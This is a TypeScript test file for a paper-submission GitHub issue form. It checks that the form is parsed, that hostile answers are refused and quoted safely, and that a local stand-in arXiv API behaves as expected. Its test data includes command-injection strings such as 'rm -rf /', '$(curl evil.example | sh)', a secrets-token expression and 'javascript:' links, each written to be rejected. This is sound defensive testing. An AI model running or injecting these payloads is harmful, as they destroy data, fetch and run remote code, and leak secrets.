/**
 * The "Submit a paper" form: its body parsed as GitHub writes it, hostile answers refused and
 * quoted harmlessly, and `npm run submit` end to end against a stand-in of arXiv's API (created,
 * already on the site, refused, arXiv failing), with the files the workflow's next job reads.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { FORM_LABELS, parseIssueForm, quote, readSubmission } from '../../scripts/workflows/submit/issue-form.ts';
import { main } from '../../scripts/workflows/submit.ts';
import { ROOT, runMain } from '../support/run.ts';

/** An issue body as GitHub writes a submitted form. */
const body = (arxiv: string, tags = '_No response_', code = '_No response_') =>
  `### ${FORM_LABELS.arxiv}\n\n${arxiv}\n\n### ${FORM_LABELS.tags}\n\n${tags}\n\n### ${FORM_LABELS.code}\n\n${code}`;

describe('parseIssueForm', () => {
  it("reads each answer under its heading, GitHub's _No response_ as empty", () => {
    expect([...parseIssueForm(body('2503.01234', 'agents, rag')).entries()]).toEqual([
      [FORM_LABELS.arxiv, '2503.01234'],
      [FORM_LABELS.tags, 'agents, rag'],
      [FORM_LABELS.code, ''],
    ]);
    expect(parseIssueForm(body('2503.01234').replaceAll('\n', '\r\n')).get(FORM_LABELS.arxiv)).toBe('2503.01234');
  });
  it('keeps the first answer when a heading is repeated inside an answer', () => {
    const doubled = body('2503.01234', `x\n\n### ${FORM_LABELS.arxiv}\n\n2401.99999`);
    expect(parseIssueForm(doubled).get(FORM_LABELS.arxiv)).toBe('2503.01234');
  });
  it('matches the template: its labels are the headings it reads', () => {
    const template = parse(readFileSync(path.join(ROOT, '.github/ISSUE_TEMPLATE/submit-paper.yml'), 'utf8')) as {
      labels: string[];
      body: { type: string; attributes: { label?: string } }[];
    };
    expect(template.body.filter((b) => b.type === 'input').map((b) => b.attributes.label)).toEqual(Object.values(FORM_LABELS));
    const workflow = readFileSync(path.join(ROOT, '.github/workflows/submit.yml'), 'utf8');
    expect(workflow).toContain(`contains(github.event.issue.labels.*.name, '${template.labels[0]}')`);
  });
});

describe('readSubmission', () => {
  const read = (arxiv: string, tags?: string, code?: string) => readSubmission(parseIssueForm(body(arxiv, tags, code)));
  it('accepts an id or URL, tags and an https code link', () => {
    expect(read('https://arxiv.org/abs/2503.01234v2', 'agents, vision-language', 'https://github.com/a/b')).toEqual({
      arxiv: '2503.01234',
      tags: ['agents', 'vision-language'],
      code: 'https://github.com/a/b',
    });
  });
  it('refuses hostile answers, each with a reason, quoting them as inline code', () => {
    const result = read('2503.01234; rm -rf / $(id) `whoami`', `$\{{ secrets.GITHUB_TOKEN }}`, 'javascript:alert(1)');
    expect(result).toEqual({
      problems: [
        '`2503.01234; rm -rf / $(id)  whoami ` is not an arXiv id or arxiv.org URL (such as 2503.01234 or https://arxiv.org/abs/2503.01234)',
        'the tag `${{` must be a lowercase slug such as vision-language',
        'the tag `secrets.GITHUB_TOKEN` must be a lowercase slug such as vision-language',
        'the tag `}}` must be a lowercase slug such as vision-language',
        'the code link `javascript:alert(1)` must be an https:// URL',
      ],
    });
    expect(read('x'.repeat(10_000))).toEqual({ problems: ['"arXiv id or URL" is 10000 characters long; the form takes at most 500'] });
    expect(read('_No response_')).toEqual({
      problems: ['"arXiv id or URL" is empty: give an arXiv id such as 2503.01234, or its arxiv.org URL'],
    });
    expect(read('2503.01234', undefined, 'http://example.org/plain')).toEqual({
      problems: ['the code link `http://example.org/plain` must be an https:// URL'],
    });
  });
  it('quotes a value so that it can neither close its code span, mention anyone nor draw a link', () => {
    expect(quote('@everyone ``` [x](javascript:alert(1))\nnext')).toBe('`@everyone     [x](javascript:alert(1)) next`');
    expect(quote('y'.repeat(200))).toHaveLength(82);
  });
});

// A stand-in for arXiv's query API.
let server: Server;
let endpoint = '';
beforeAll(async () => {
  server = createServer((req, res) => {
    const id = new URL(req.url ?? '/', 'http://x').searchParams.get('id_list');
    if (id === '2410.05076') {
      res.writeHead(200, { 'content-type': 'application/atom+xml' });
      res.end(readFileSync(path.join(ROOT, 'tests/fixtures/arxiv/tidaldecode.xml')));
    } else {
      res.writeHead(503);
      res.end('down');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/query`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

let work: string;
beforeEach(() => {
  work = mkdtempSync(path.join(tmpdir(), 'papershelf-submit-'));
  mkdirSync(path.join(work, 'papers'));
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

async function submitIssue(issueBody: string, login = 'octo-cat') {
  const event = path.join(work, 'event.json');
  writeFileSync(
    event,
    JSON.stringify({ action: 'opened', issue: { number: 42, title: 'Submit a paper', body: issueBody, user: { login } } }),
  );
  const out = path.join(work, 'out');
  const run = await runMain(main, ['--event', event, '--out', out, '--date', '2025-03-17'], {
    PAPERSHELF_CONTENT: path.join(work, 'papers'),
    PAPERSHELF_CACHE: path.join(work, 'cache'),
    PAPERSHELF_ARXIV_API: endpoint,
    PAPERSHELF_HTTP_RETRY_MS: '10',
    PAPERSHELF_SITE: 'https://papers.example.org',
    PAPERSHELF_BASE: '/shelf/',
  });
  const papers = readdirSync(path.join(work, 'papers'), { recursive: true })
    .map(String)
    .filter((f) => f.endsWith('.md'));
  return {
    run,
    papers,
    result: JSON.parse(readFileSync(path.join(out, 'result.json'), 'utf8')) as Record<string, unknown>,
    answer: readFileSync(path.join(out, 'answer.md'), 'utf8'),
  };
}

describe('npm run submit', () => {
  it("scaffolds the paper with npm run new, credited to the issue's author, and checks it", async () => {
    const { run, papers, result, answer } = await submitIssue(
      body('https://arxiv.org/abs/2410.05076', 'decoding, llm', 'https://github.com/DerrickYLJ/TidalDecode'),
    );
    expect(run.status, run.stderr).toBe(0);
    expect(papers).toEqual(['2025-03-17/2410.05076.md']);
    const file = readFileSync(path.join(work, 'papers/2025-03-17/2410.05076.md'), 'utf8');
    expect(file).toContain('submitted_by: "@octo-cat"');
    expect(file).toContain('code: "https://github.com/DerrickYLJ/TidalDecode"');
    expect(file).toContain('tags: ["decoding", "llm"]');
    expect(result).toMatchObject({ outcome: 'created', issue: 42, login: 'octo-cat', arxiv: '2410.05076' });
    expect(answer).toContain('Thank you, @octo-cat!');
    expect(answer).toContain('npm run check` passed');
  });

  it('answers with the link of a paper already on the site, and writes nothing', async () => {
    mkdirSync(path.join(work, 'papers/2025-03-10'));
    writeFileSync(
      path.join(work, 'papers/2025-03-10/2410.05076.md'),
      '---\ntitle: "TidalDecode"\narxiv: "2410.05076v2"\n---\n\nAbstract.\n',
    );
    const { papers, result, answer } = await submitIssue(body('2410.05076'));
    expect(papers).toEqual(['2025-03-10/2410.05076.md']);
    expect(result).toMatchObject({ outcome: 'exists', url: 'https://papers.example.org/shelf/papers/2410.05076/' });
    expect(answer).toBe(
      'Thank you! arXiv 2410.05076 is already on the site, listed on 2025-03-10: https://papers.example.org/shelf/papers/2410.05076/\n',
    );
  });

  it('refuses a hostile form or an account it cannot credit, writing nothing', async () => {
    const hostile = await submitIssue(body('$(curl evil.example | sh)', 'ok', 'javascript:alert(1)'));
    expect(hostile.result).toMatchObject({ outcome: 'refused' });
    expect(hostile.papers).toEqual([]);
    expect(hostile.answer).toContain('- `$(curl evil.example | sh)` is not an arXiv id');
    const bot = await submitIssue(body('2410.05076'), 'renovate[bot]');
    expect(bot.result).toMatchObject({ outcome: 'refused' });
    expect(bot.answer).toContain("the issue's author `renovate[bot]` is not a GitHub user account that can be credited");
    expect(bot.papers).toEqual([]);
  });

  it('says arXiv failed, and writes nothing, when arXiv does not answer', async () => {
    const { result, papers, answer } = await submitIssue(body('2503.50300'));
    expect(result).toMatchObject({ outcome: 'failed', arxiv: '2503.50300' });
    expect(papers).toEqual([]);
    expect(answer).toContain('arXiv answered HTTP 503');
  });
});
